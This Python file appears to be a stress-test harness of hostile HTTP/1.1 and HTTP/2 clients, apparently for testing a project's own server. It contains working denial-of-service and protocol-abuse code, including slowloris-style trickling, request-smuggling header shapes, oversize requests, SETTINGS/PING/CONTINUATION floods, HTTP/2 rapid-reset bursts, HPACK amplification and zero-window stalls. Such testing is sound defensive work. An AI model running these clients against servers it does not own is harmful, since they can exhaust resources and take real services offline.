"""Clients that no server wants, written from the specifications alone. Nothing here is shared with the project's sources.

Usage: attacks.py HOST:PORT NAME [--path /ADDRESS] [--seconds S] [--connections N] [--ends E] [--tls]

Each of N connections does its worst; one that the server ends begins anew after a while. Writes "ready" to stderr once all
are there. After S seconds, or at SIGTERM, but not before the server has ended E of them, exchanges are finished and
everything else is cut off. Prints how often what happened: {"connected": …, "408": …, "ended": …}; only what was seen to
its end counts. A blob's path is needed by those who read. Those who stay (STAYING) begin once, and keep their end open.
"""

import argparse
import asyncio
import base64
import collections
import contextlib
import hashlib
import itertools
import json
import os
import random
import re
import resource
import signal
import socket
import ssl
import sys

from http2_frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS,
                          WINDOW_UPDATE, field, frame, request, string)

FOUR = itertools.cycle(range(1, 5))
PAUSE = 0.2  # seconds until a connection that was ended begins anew
HANG = 900  # seconds after which an exchange is not going to end
EXCHANGES = {"half-closed", "rubbish", "smuggling", "oversize"}
STAYING = {"sent-ahead", "crowd-ahead", "h2-closed-window", "h2-endless-get"}
GET = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
SHAPES = [
    b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabcd",
    b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n",
    b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
    b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n folded: y\r\n\r\n",
    b"GET /healthz HTTP/1.1\nHost: localhost\n\n",
    b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: a\0b\r\n\r\n",
]
OVERSIZE = [
    b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX: " + b"a" * 1_000_000 + b"\r\n\r\n",
    b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n" + b"a:\r\n" * 100_000 + b"\r\n",
    b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n3;" + b"a" * 1_000_000,
    b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n" + b"X: a\r\n" * 100_000,
]


TLS = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
TLS.check_hostname, TLS.verify_mode = False, ssl.CERT_NONE
TLS.set_alpn_protocols(["h2"])


class Attacker:
    """One connection at a time, and what came of all of them."""

    def __init__(self, options, tally, crowd, number):
        self.options, self.tally, self.crowd = options, tally, crowd
        self.random = random.Random(number)

    async def connect(self):
        host, port = self.options.server.rsplit(":", 1)
        connection = socket.socket()
        connection.setblocking(False)
        # A reader that is slow shall not be helped by the kernel.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            await asyncio.get_running_loop().sock_connect(connection, (host, int(port)))
            if self.options.name not in STAYING:
                self.crowd.settle(self)
            arguments = {"ssl": TLS, "server_hostname": host} if self.options.tls else {}
            self.reader, self.writer = await asyncio.open_connection(sock=connection, limit=4096, **arguments)
        except BaseException:
            connection.close()
            raise
        self.reading = None
        self.tally["connected"] += 1

    async def send(self, data):
        self.writer.write(data)
        await self.writer.drain()

    async def trickle(self, data, seconds=1):
        """One byte a second, until the server has had enough."""
        for byte in data:
            await self.send(bytes([byte]))
            if self.reader.at_eof():
                return
            await asyncio.sleep(seconds)

    async def read(self):
        """What comes until the server ends it, and what it was called."""
        data = b""
        try:
            while piece := await self.reader.read(65536):
                data = (data + piece)[-65536:]
            self.tally["ended"] += 1
        finally:
            # Of what is cut off here nobody knows what would have come.
            if not asyncio.current_task().cancelling():
                for status in re.findall(rb"HTTP/1.1 (\d{3})", data):
                    self.tally[status.decode()] += 1

    async def stay(self):
        """Keeps this end open as it is."""
        self.crowd.settle(self)
        await self.crowd.end.wait()

    # HTTP/1.1

    async def slow_headers(self):
        await self.trickle(GET[:-2] + b"X-Slow: " + b"a" * 1000)
        await self.read()

    async def slow_body(self):
        await self.send(b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n")
        await self.trickle(b"a" * 1000)
        await self.read()

    async def slow_reading(self):
        await self.send(b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n" % self.options.path.encode())
        while await self.reader.read(1):
            await asyncio.sleep(1)
        self.tally["ended"] += 1

    async def silence(self):
        await self.read()

    async def half_closed(self):
        await self.send(self.random.choice([GET[:20], GET, b"PUT /upload HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9\r\n\r\n"]))
        self.writer.write_eof()
        await self.read()

    async def rubbish(self):
        await self.send(GET * 20 + self.random.randbytes(20_000))
        await self.read()

    async def smuggling(self):
        await self.send(self.random.choice(SHAPES) + GET)
        await self.read()

    async def oversize(self):
        try:
            await self.send(self.random.choice(OVERSIZE))
        finally:
            await self.read()

    async def receipts(self):
        """What whoever holds a message can try (its receipt secret is 16 zero bytes): leases of their own that hear of
        everybody's receipts, and receipts."""
        path = self.options.path
        hash = base64url(hashlib.sha256(bytes(16)).digest())
        for count in range(1 << 30):
            owner = base64url(os.urandom(32))
            await self.ask(f"POST {path}/leases", f"Satchel-Owner: {owner}", f"Satchel-Receipt: {hash}")
            if count % 8 == 7:
                name = base64url(bytes([self.random.randrange(16)] * 16))
                await self.ask(f"PUT {path}/receipts/{name}", f"Satchel-Secret: {base64url(bytes(16))}")

    async def ask(self, line, *fields):
        """Sends a request without a body and reads the whole answer."""
        head = [f"{line} HTTP/1.1", "Host: localhost", "Content-Length: 0", *fields]
        await self.send("\r\n".join(head + ["", ""]).encode())
        answer = await self.reader.readuntil(b"\r\n\r\n")
        length = re.search(rb"content-length: (\d+)", answer.lower())
        await self.reader.readexactly(int(length[1]) if length else 0)
        self.tally[answer.split()[1].decode()] += 1

    async def slots(self):
        """Four clients of a proxy begin all the uploads they may, and bring no byte of any."""
        while True:
            await self.send(
                b"POST /uploads HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 192.0.2.%d\r\nTus-Resumable: 1.0.0\r\n"
                b"Upload-Length: 1000000\r\nContent-Length: 0\r\n\r\n" % next(FOUR))
            async with asyncio.timeout(30):
                head = await self.reader.readuntil(b"\r\n\r\n")
                length = re.search(rb"\r\ncontent-length: (\d+)", head, re.IGNORECASE)
                await self.reader.readexactly(int(length[1]) if length else 0)
            self.tally[head[9:12].decode()] += 1
            if head[9:12] != b"201":
                await asyncio.sleep(PAUSE)

    async def sent_ahead(self):
        """Many small requests, and nothing of the answers is read."""
        self.writer.write(b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n" % self.options.path.encode() * 2000)
        await self.stay()

    async def crowd_ahead(self):
        """Requests that take much more memory than bytes, behind one whose answer is never read; nothing follows them, so
        that the server's kernel tells it to read them all. Before them large ones, for which it makes room."""
        path = self.options.path.encode()
        wide = b"HEAD %s HTTP/1.1\r\nHost: localhost\r\nX: %s\r\n\r\n" % (path, b"a" * 31_000)
        fields = b"".join(b"%c:\r\n" % (97 + n % 26) for n in range(250))
        many = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n" + fields + b"\r\n"
        self.writer.write(wide * 40 + b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n" % path + many * 400)
        self.writer.write_eof()
        await self.stay()

    # HTTP/2 (RFC 9113)

    async def begin(self, settings=b""):
        await self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
        self.reading = asyncio.ensure_future(self.read())

    async def push(self, data):
        """Sends, unless the server ends it first."""
        self.writer.write(data)
        drained = asyncio.ensure_future(self.writer.drain())
        await asyncio.wait({drained, self.reading}, return_when=asyncio.FIRST_COMPLETED)
        if drained.done():
            drained.result()
        drained.cancel()

    async def flood(self, frames, count=100):
        """The same frames again and again, until the server has had enough."""
        try:
            while not self.reading.done():
                await self.push(frames * count)
                await asyncio.sleep(0.01)
        finally:
            self.reading.cancel()

    async def h2_settings(self):
        await self.begin()
        await self.flood(frame(SETTINGS, 0, 0))

    async def h2_pings(self):
        await self.begin()
        await self.flood(frame(PING, 0, 0, b"12345678"))

    async def h2_continuation(self):
        await self.begin()
        await self.send(frame(HEADERS, 0, 1, request("/healthz")))
        await self.flood(frame(CONTINUATION, 0, 1, field("x", "a" * 1000)))

    async def h2_headers(self):
        """A header list that is small on the wire: one large field, told once and then named a thousand times."""
        await self.begin()
        large = b"\x40" + string("x") + string("a" * 4000) + b"\xbe" * 2000
        await self.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request("/healthz") + large))
        await self.flood(b"", count=0)

    async def h2_resets(self):
        await self.begin()
        asked = request(self.options.path or "/healthz")
        try:
            for first in range(1, 1 << 30, 400):
                if self.reading.done():
                    break
                # Together, so that a slow machine resets as many in half a minute.
                await self.push(b"".join(
                    frame(HEADERS, END_HEADERS | END_STREAM, stream, asked) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                    for stream in range(first, first + 400, 2)))
                await asyncio.sleep(0.01)
        finally:
            self.reading.cancel()

    async def h2_streams(self):
        """More uploads than may be open at once, none of which goes on."""
        await self.begin()
        body = request("/upload", b"PUT") + field("content-length", "1000000")
        for stream in range(1, 600, 2):
            await self.send(frame(HEADERS, END_HEADERS, stream, body))
        await self.reading

    async def h2_questions(self):
        """Questions that need the disk, as many as may be open at once; nobody waits for an answer."""
        await self.begin()
        question = request("/uploads/" + "a" * 22, b"HEAD") + field("tus-resumable", "1.0.0")
        await self.send(b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, question) for stream in range(1, 200, 2)))
        await asyncio.sleep(0.05)
        self.tally["ended"] += 1

    async def h2_window(self):
        """A blob is asked for a hundred times, and room is given for one byte at a time."""
        await self.begin(b"\0\4" + (0).to_bytes(4, "big"))
        for stream in range(1, 200, 2):
            await self.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, request(self.options.path)))
        try:
            while not self.reading.done():
                await self.push(b"".join(frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1") for stream in range(1, 200, 2)))
                await asyncio.sleep(5)
        finally:
            self.reading.cancel()

    async def h2_silence(self):
        await self.silence()

    async def h2_closed_window(self):
        """A small answer, for which there never is any room."""
        await self.begin(b"\0\4" + (0).to_bytes(4, "big"))
        await self.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request("/healthz")))
        await self.stay()

    async def h2_endless_get(self):
        """A blob is asked for, and the request never ends."""
        await self.begin()
        await self.send(frame(HEADERS, END_HEADERS, 1, request(self.options.path)))
        await self.stay()

    async def h2_empty(self):
        await self.begin()
        await self.send(frame(HEADERS, END_HEADERS, 1, request("/upload", b"PUT")))
        await self.flood(frame(DATA, 0, 1))


def base64url(data):
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


class Crowd:
    """All attackers: who has yet to do its worst for the first time, and when they shall end."""

    def __init__(self):
        self.missing, self.end = set(), asyncio.Event()

    def settle(self, attacker):
        if attacker in self.missing:
            self.missing.remove(attacker)
            if not self.missing:
                print("ready", file=sys.stderr, flush=True)


def ends(tally):
    """Connections that the server has ended, one way or another."""
    return sum(count for name, count in tally.items() if name == "ended" or name.startswith("Connection"))


async def attack(attacker, options, tally, crowd):
    act = getattr(attacker, options.name.replace("-", "_"))
    while not crowd.end.is_set():
        try:
            await attacker.connect()
            try:
                await act()
            finally:
                if attacker.reading:
                    attacker.reading.cancel()
                attacker.writer.transport.abort()
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError) as error:
            tally[type(error).__name__] += 1
        await asyncio.sleep(PAUSE)


async def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("server")
    parser.add_argument("name")
    parser.add_argument("--path", default="")
    parser.add_argument("--seconds", type=float, default=2)
    parser.add_argument("--connections", type=int, default=20)
    parser.add_argument("--ends", type=int, default=0)
    parser.add_argument("--tls", action="store_true")
    options = parser.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    tally = collections.Counter()
    crowd = Crowd()
    attackers = [Attacker(options, tally, crowd, number) for number in range(options.connections)]
    crowd.missing.update(attackers)
    asked = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, asked.set)
    # Whoever started this may be a thread that takes no signals, and that is inherited.
    signal.pthread_sigmask(signal.SIG_UNBLOCK, {signal.SIGTERM})
    tasks = [asyncio.create_task(attack(attacker, options, tally, crowd)) for attacker in attackers]
    with contextlib.suppress(asyncio.TimeoutError):
        await asyncio.wait_for(asked.wait(), options.seconds)
    while ends(tally) < options.ends:
        await asyncio.sleep(0.05)
    crowd.end.set()
    if options.name in EXCHANGES | STAYING:
        await asyncio.wait(tasks, timeout=HANG)
    for task in tasks:
        task.cancel()
    for outcome in await asyncio.gather(*tasks, return_exceptions=True):
        if isinstance(outcome, Exception):
            raise outcome
    print(json.dumps(tally), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
